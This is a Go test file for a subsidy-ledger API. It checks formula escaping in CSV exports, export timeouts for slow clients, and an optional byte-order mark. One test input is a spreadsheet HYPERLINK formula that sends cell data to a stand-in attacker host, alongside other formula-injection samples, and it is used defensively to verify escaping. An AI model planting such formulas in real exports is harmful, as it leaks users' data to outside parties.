package api

import (
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/cqhrss/subsidyledger/projections/trainee"
)

// TestCSVCellsAreNotFormulas: a text cell a spreadsheet would take for a
// formula is written with a leading apostrophe; numbers, including
// negative ones, and other text are written as they are.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	type row struct {
		Name    string   `json:"name"`
		Tags    []string `json:"tags"`
		Balance int64    `json:"balance_fen"`
	}
	rows := []row{
		{`=HYPERLINK("http://attacker.example/?"&A1,"单位")`, []string{"=1+1"}, -5},
		{"+T902", nil, 0},
		{"-2+3", nil, 1},
		{"@SUM(1)", nil, 2},
		{"\tx", nil, 3},
		{"\rx", nil, 4},
		{"渝中区 = 好", []string{"a", "=b"}, 5},
		{"", nil, 6},
	}
	var b strings.Builder
	if err := writeCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"name", "tags", "balance_fen"},
		{`'=HYPERLINK("http://attacker.example/?"&A1,"单位")`, "'=1+1", "-5"},
		{"'+T902", "", "0"},
		{"'-2+3", "", "1"},
		{"'@SUM(1)", "", "2"},
		{"'\tx", "", "3"},
		{"'\rx", "", "4"},
		{"渝中区 = 好", "a =b", "5"},
		{"", "", "6"},
	}
	if len(recs) != len(want) {
		t.Fatalf("%d records; want %d", len(recs), len(want))
	}
	for i := range want {
		for j := range want[i] {
			// encoding/csv reads a lone \r in a quoted field as \n.
			if got := strings.ReplaceAll(recs[i][j], "\n", "\r"); got != want[i][j] {
				t.Errorf("record %d field %d = %q; want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
}

// slowWriter is a client that takes a while over every write.
type slowWriter struct {
	*httptest.ResponseRecorder
	delay time.Duration
}

func (w slowWriter) Write(b []byte) (int, error) {
	time.Sleep(w.delay)
	return w.ResponseRecorder.Write(b)
}

// TestTraineeExportOutlivesTheRequestTimeout: the streamed trainee export
// is bounded by ExportTimeout, not the request timeout, and an export cut
// short drops the connection (http.ErrAbortHandler) rather than ending a
// shorter file as if it were whole.
func TestTraineeExportOutlivesTheRequestTimeout(t *testing.T) {
	count := fx.set.Runners()[0].Current().(*trainee.Model).Count()
	export := func(cfg Config) (rows int, aborted bool) {
		cfg.Projections, cfg.Store = fx.set, fx.store
		h := New(cfg)
		w := slowWriter{httptest.NewRecorder(), 2 * time.Millisecond}
		defer func() {
			if p := recover(); p != nil {
				if p != http.ErrAbortHandler {
					panic(p)
				}
				aborted = true
			}
		}()
		h.ServeHTTP(w, httptest.NewRequest("GET", "/v1/trainees?format=csv", nil))
		recs, err := csv.NewReader(w.Body).ReadAll()
		if err != nil {
			t.Fatalf("export: %v", err)
		}
		return len(recs) - 1, false
	}
	if rows, aborted := export(Config{Timeout: 20 * time.Millisecond}); aborted || rows != count {
		t.Errorf("a slow client past the request timeout: %d rows (aborted %v); want all %d", rows, aborted, count)
	}
	if rows, aborted := export(Config{ExportTimeout: 20 * time.Millisecond}); !aborted {
		t.Errorf("an export past its timeout ended normally with %d of %d rows; want the connection dropped", rows, count)
	}
}

// TestCSVByteOrderMark: bom=1 begins a CSV export with the UTF-8
// byte-order mark Excel needs to read the Chinese names as UTF-8; without
// it there is none, and bom without format=csv, or not a boolean, is 400.
func TestCSVByteOrderMark(t *testing.T) {
	const mark = "\ufeff"
	for _, path := range []string{"/v1/institutions?format=csv&bom=1", "/v1/trainees?format=csv&bom=true"} {
		resp, b := get(t, path, "")
		if resp.StatusCode != 200 || !strings.HasPrefix(string(b), mark) || strings.Count(string(b), mark) != 1 {
			t.Errorf("%s = %d, starts %q; want 200 and one byte-order mark first", path, resp.StatusCode, b[:min(len(b), 8)])
		}
	}
	if _, b := get(t, "/v1/institutions?format=csv", ""); strings.HasPrefix(string(b), mark) {
		t.Error("a CSV export without bom begins with a byte-order mark")
	}
	for _, path := range []string{"/v1/institutions?bom=1", "/v1/institutions?format=csv&bom=yes"} {
		if resp, _ := get(t, path, ""); resp.StatusCode != 400 {
			t.Errorf("%s = %d; want 400", path, resp.StatusCode)
		}
	}
}
